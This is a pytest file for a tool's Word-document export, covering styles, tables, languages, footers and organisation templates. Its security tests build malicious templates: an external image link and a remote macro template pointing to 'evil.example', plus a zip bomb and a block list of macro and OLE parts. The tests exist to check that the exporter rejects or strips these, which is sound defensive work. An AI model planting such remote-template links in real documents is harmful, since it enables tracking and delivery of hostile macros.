"""The Word document, read again with python-docx: words, styles, tables, templates."""

import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.document import Document as WordDocument
from docx.enum.section import WD_ORIENT
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import qn
from docx.shared import Mm
from docx.text.paragraph import Paragraph

from coalition_cli.blocks import Prose
from coalition_cli.errors import Problem
from coalition_cli.exports import export
from coalition_cli.model.document import Document, Head, Part, Section
from coalition_cli.model.paper import USUAL, Paper
from coalition_cli.model.summary import Summary
from coalition_cli.typesetting import fitted
from tests.exports.hard_summary import HARD, SAID
from tests.support.document_words import words_of

RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
CONTROLS = "one\x00two\x1bthree\ufffefour\ud800five"


def rendered(summary: Summary = HARD, paper: Paper = USUAL) -> bytes:
    return export("docx").render(summary, paper)


def opened(content: bytes) -> WordDocument:
    return docx.Document(io.BytesIO(content))


def elements(document: WordDocument, name: str) -> Iterator[Any]:
    return document.element.body.iter(qn(name))


def paragraphs(document: WordDocument) -> list[Paragraph]:
    """Every paragraph, also those inside tables."""
    return [Paragraph(found, document._body) for found in elements(document, "w:p")]


def words(document: WordDocument) -> str:
    foot = [part.text for section in document.sections for part in section.footer.paragraphs]
    return "\n".join([*(paragraph.text for paragraph in paragraphs(document)), *foot])


def saying(*texts: str, language: str = "en", day: str = "2026-11-21") -> Summary:
    section = Section("all", "Words", tuple(map(Prose, texts)))
    document = Document(language, Head("Title"), (Part("all", (section,)),), ("Foot",), day=day)
    return Summary(document, {})


def members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture(scope="module")
def hard() -> WordDocument:
    return opened(rendered())


def test_everything_said_reads_back_as_it_was_said(hard: WordDocument) -> None:
    read = words(hard)
    for text in (*SAID, *words_of(fitted(HARD.document))):
        assert text in read, text[:80]


@pytest.mark.parametrize("text", [*SAID, "  two  spaces  ", "a\tb", "{page} {pages} %s {0}"])
def test_a_paragraph_is_the_text_and_nothing_more(text: str) -> None:
    document = opened(rendered(saying(text)))
    assert [text] == [each.text for each in paragraphs(document) if each.style.name == "Body Text"]


def test_what_xml_cannot_hold_is_seen_to_be_lost() -> None:
    document = opened(rendered(saying(CONTROLS)))
    assert "one\ufffdtwo\ufffdthree\ufffdfour\ufffdfive" in words(document)


def test_titles_are_headings_in_real_styles(hard: WordDocument) -> None:
    styles = {each.text: each.style.name for each in paragraphs(hard)}
    assert styles["Who does what"] == "Heading 2"
    assert styles["Results"] == "Heading 1"
    assert styles["4 more (D10–D13) on page 2."] == "Quiet"
    assert styles["<b>The</b> hard *summary* #\tDo *not* forward"] == "Title"
    named = {style.name for style in hard.styles}
    assert {"Title", "Heading 1", "Heading 2", "Heading 3", "Body Text", "Quiet", "Code"} <= named


def test_codes_are_letters_of_their_own_style(hard: WordDocument) -> None:
    codes = {run.text for each in paragraphs(hard) for run in each.runs if run.style.name == "Code"}
    assert {"A1", "A3", "A37", "D10–13"} - codes == {"D10–13"}  # its row is not shown on page 1


def test_a_table_with_titles_repeats_them_and_says_that_they_are_titles(hard: WordDocument) -> None:
    [head] = [
        row
        for row in elements(hard, "w:tr")
        if row.find(f".//{qn('w:tblHeader')}") is not None
        and "Who & when" in "".join(row.itertext())
    ]
    assert "What | *what*" in "".join(head.itertext())


def test_rows_without_titles_tell_them_to_whoever_cannot_see(hard: WordDocument) -> None:
    told = [found.get(qn("w:val")) for found in elements(hard, "w:tblDescription")]
    assert "Who & when · What | *what* · Code" in told


def test_a_short_row_is_not_split_and_a_long_one_may_be(hard: WordDocument) -> None:
    def is_whole(text: str) -> bool:
        [row] = [
            row
            for row in elements(hard, "w:tr")
            if text in "".join(row.itertext()) and row.find(f".//{qn('w:tbl')}") is None
        ]
        return row.find(f"{qn('w:trPr')}/{qn('w:cantSplit')}") is not None

    assert is_whole("ends with #First")
    long = saying(*(["word " * 2000] * 2))
    section = Section("all", "Words", long.document.sections[0].blocks, look="tint")
    tinted = replace(long.document, parts=(Part("all", (section,)),))
    rows = list(elements(opened(rendered(Summary(tinted, {}))), "w:tr"))
    assert [row.find(f"{qn('w:trPr')}/{qn('w:cantSplit')}") for row in rows] == [None]


def test_every_picture_has_words_and_lies_in_the_file(hard: WordDocument) -> None:
    told = [found.get("descr") for found in elements(hard, "wp:docPr")]
    assert len(told) >= 4
    assert all(told)
    assert "A1: Sat 12 Dec; A2: Sat 12 Dec" in told
    names = {found.get("id") for found in elements(hard, "wp:docPr")}
    assert len(names) == len(told)


def test_slips_stand_four_on_a_page_and_lose_no_word(hard: WordDocument) -> None:
    [table] = [each for each in hard.tables if len(each.rows) == 4 and len(each.columns) == 2]
    above, low, second, _low = table.rows
    assert [cell.paragraphs[1].text for cell in above.cells] == ["Mama [Joy]", "<b>"]
    assert second.cells[0].paragraphs[1].text == SAID[30]
    assert low.cells[0].text == ""


def test_the_annex_stands_in_two_columns(hard: WordDocument) -> None:
    counts = [found.get(qn("w:num")) for found in elements(hard, "w:cols")]
    assert counts[-1] == "2"
    assert set(counts[:-1]) == {None}


def test_the_foot_counts_its_pages_by_itself(hard: WordDocument) -> None:
    foot = hard.sections[0].footer.paragraphs[0]
    assert foot.text.startswith("For <organizers> · The hard summary · 21 November 2026\tPage ")
    fields = [found.get(qn("w:instr")).strip() for found in foot._p.iter(qn("w:fldSimple"))]
    assert fields == ["PAGE", "NUMPAGES"]


def test_nothing_in_it_leads_out_runs_or_tells_who_wrote_it() -> None:
    files = members(rendered())
    whole = b"\n".join(files.values())
    assert b"TargetMode" not in whole
    for name in (b"w:hyperlink", b"instrText", b"altChunk", b"w:rsid", b"vbaProject", b"oleObject"):
        assert name not in whole
    assert not [name for name in files if "thumbnail" in name or name.endswith(("app.xml", ".bin"))]
    about = opened(rendered()).core_properties
    assert (about.author, about.last_modified_by, about.comments) == ("", "", "")
    assert about.title == "<b>The</b> hard *summary* #"
    assert f"{about.created:%Y-%m-%d}" == f"{about.modified:%Y-%m-%d}" == "2026-11-21"


@pytest.mark.parametrize("day", ["2026-11-21", "1970-01-01", "", "not a day", "2026-02-31"])
def test_the_same_summary_gives_the_same_bytes_whatever_its_day(day: str) -> None:
    summary = saying("word", day=day)
    assert rendered(summary) == rendered(summary)
    assert opened(rendered(summary)).core_properties.title == "Title"


@pytest.mark.parametrize(
    ("language", "told"), [("en_GB", "en-GB"), ("sw", "sw"), ("ar", "ar"), ("<x>", None)]
)
def test_words_keep_their_language(language: str, told: str | None) -> None:
    document = opened(rendered(saying("word", language=language)))
    [run] = [run for each in paragraphs(document) for run in each.runs if run.text == "word"]
    found = run._r.find(f"{qn('w:rPr')}/{qn('w:lang')}")
    assert (found.get(qn("w:val")) if found is not None else None) == told


def test_a_language_read_from_the_right_turns_paragraphs_and_keeps_numbers_in_order() -> None:
    document = opened(rendered(saying("العدالة للنساء", "+255 000 000 111", language="ar")))
    shown = [each for each in paragraphs(document) if each.style.name == "Body Text"]
    assert all(each._p.pPr.find(qn("w:bidi")) is not None for each in shown)
    assert [each.runs[0]._r.rPr.find(qn("w:rtl")) is not None for each in shown] == [True, False]
    assert shown[1].text == "\u200e+255 000 000 111\u200e"


def own_template(path: Path, **settings: str) -> Path:
    """An organisation's document: its head and foot, its own heading, and words of its own."""
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Umoja letterhead"
    document.sections[0].footer.paragraphs[0].text = "PO Box 1"
    document.styles["Heading 2"].font.name = "Their Font"
    document.add_paragraph("words that must go")
    document.add_table(2, 2)
    document.core_properties.author = "Their author"
    document.save(str(path))
    return path


def test_a_template_gives_its_styles_its_head_and_its_foot(tmp_path: Path) -> None:
    path = own_template(tmp_path / "ours.docx")
    content = rendered(paper=Paper(template=path))
    document = opened(content)
    assert document.sections[0].header.paragraphs[0].text == "Umoja letterhead"
    assert document.sections[0].footer.paragraphs[0].text == "PO Box 1"
    assert document.styles["Heading 2"].font.name == "Their Font"
    assert document.sections[0].page_width == docx.Document(str(path)).sections[0].page_width
    whole = b"\n".join(members(content).values())
    assert b"words that must go" not in whole
    assert b"Their author" not in whole
    assert b"w:rsid" not in whole
    read = words(document)
    for text in SAID:
        assert text in read
    assert content == rendered(paper=Paper(template=path))


def test_every_style_that_paragraphs_name_is_there(tmp_path: Path) -> None:
    path = own_template(tmp_path / "ours.docx")
    for content in (rendered(), rendered(paper=Paper(template=path))):
        document = opened(content)
        there = {style.style_id for style in document.styles}
        named = {found.get(qn("w:val")) for found in elements(document, "w:pStyle")}
        named |= {found.get(qn("w:val")) for found in elements(document, "w:rStyle")}
        assert named <= there


def test_a_template_whose_names_are_ours_keeps_its_own_styles(tmp_path: Path) -> None:
    path = own_template(tmp_path / "ours.docx")
    theirs = docx.Document(str(path))
    theirs.styles.add_style("Code", WD_STYLE_TYPE.PARAGRAPH)
    theirs.styles.add_style("Quiet", WD_STYLE_TYPE.CHARACTER)
    theirs.styles["Quote"].font.bold = True
    theirs.save(str(path))
    document = opened(rendered(paper=Paper(template=path)))
    identities = [style.style_id for style in document.styles]
    assert len(identities) == len(set(identities))
    assert document.styles["Quote"].font.bold
    quiet = [each.style for each in paragraphs(document) if "more (D10" in each.text]
    assert [style.type for style in quiet] == [WD_STYLE_TYPE.PARAGRAPH]


@pytest.mark.parametrize("parts", [(), (Part("a", ()),), (Part("a", (), columns=2),)])
def test_a_document_without_words_is_a_document(parts: tuple[Part, ...]) -> None:
    document = Document("en", Head("Title"), parts)
    assert "Title" in words(opened(rendered(Summary(document, {})))) or not parts


def test_slips_of_a_lying_page_stand_upright(tmp_path: Path) -> None:
    path = own_template(tmp_path / "ours.docx")
    theirs = docx.Document(str(path))
    section = theirs.sections[0]
    section.orientation = WD_ORIENT.LANDSCAPE
    section.page_width, section.page_height = section.page_height, section.page_width
    section.different_first_page_header_footer = True
    theirs.save(str(path))
    pages = opened(rendered(paper=Paper(template=path))).sections
    assert pages[0].orientation == WD_ORIENT.LANDSCAPE
    [slips] = [each for each in pages if each.left_margin < Mm(7)]
    assert slips.orientation == WD_ORIENT.PORTRAIT
    assert slips.header.paragraphs[0].text == ""
    assert not any(each.different_first_page_header_footer for each in list(pages)[1:])


def zipped(path: Path, files: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return path


def with_outside_picture(path: Path) -> Path:
    files = members(own_template(path).read_bytes())
    relation = (
        f'<Relationship Id="rId99" Type="{RELATED}image" Target="http://evil.example/x.png"'
        ' TargetMode="External"/></Relationships>'
    ).encode()
    name = "word/_rels/header1.xml.rels"
    empty = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>"
    )
    files[name] = files.get(name, empty).replace(b"</Relationships>", relation)
    return zipped(path, files)


def with_damaged_bytes(path: Path) -> Path:
    whole = own_template(path).read_bytes()
    path.write_bytes(whole[:200] + b"damaged" * 20 + whole[340:])
    return path


def with_odd_styles(path: Path) -> Path:
    files = members(own_template(path).read_bytes())
    files["word/styles.xml"] = files["word/styles.xml"].replace(
        b'w:type="paragraph"', b'w:type="?"'
    )
    return zipped(path, files)


@pytest.mark.parametrize(
    ("made", "said"),
    [
        (lambda path: path, "cannot be read"),
        (lambda path: path.write_bytes(b"no zip") and path, "cannot be read"),
        (lambda path: zipped(path, {"a.txt": b"a zip"}), "cannot be read"),
        (lambda path: zipped(path, {"word/document.xml": b"<broken"}), "cannot be read"),
        (with_damaged_bytes, "cannot be read"),
        (with_odd_styles, "cannot be read"),
        (with_outside_picture, "from outside"),
    ],
)
def test_a_template_that_is_none_is_a_sentence(tmp_path: Path, made: Any, said: str) -> None:
    path = made(tmp_path / "theirs.docx")
    with pytest.raises(Problem, match=said) as problem:
        rendered(paper=Paper(template=path))
    assert "theirs.docx" in problem.value.sentence
    assert str(tmp_path) not in problem.value.sentence


@pytest.mark.slow
def test_a_template_that_unpacks_to_far_too_much_is_not_unpacked(tmp_path: Path) -> None:
    path = tmp_path / "theirs.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * 100_000_001)
    with pytest.raises(Problem, match="cannot be read"):
        rendered(paper=Paper(template=path))


def test_a_remote_template_behind_the_template_is_left_out(tmp_path: Path) -> None:
    path = own_template(tmp_path / "ours.docx")
    files = members(path.read_bytes())
    settings = files["word/settings.xml"].decode()
    files["word/settings.xml"] = re.sub(
        r"(<w:settings[^>]*>)",
        rf'\1<w:attachedTemplate xmlns:r="{RELATED[:-1]}" r:id="rId1"/>',
        settings,
        count=1,
    ).encode()
    files["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATED}attachedTemplate"'
        ' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    whole = b"\n".join(members(rendered(paper=Paper(template=zipped(path, files)))).values())
    assert b"evil.example/t" not in whole
    assert b"attachedTemplate" not in whole
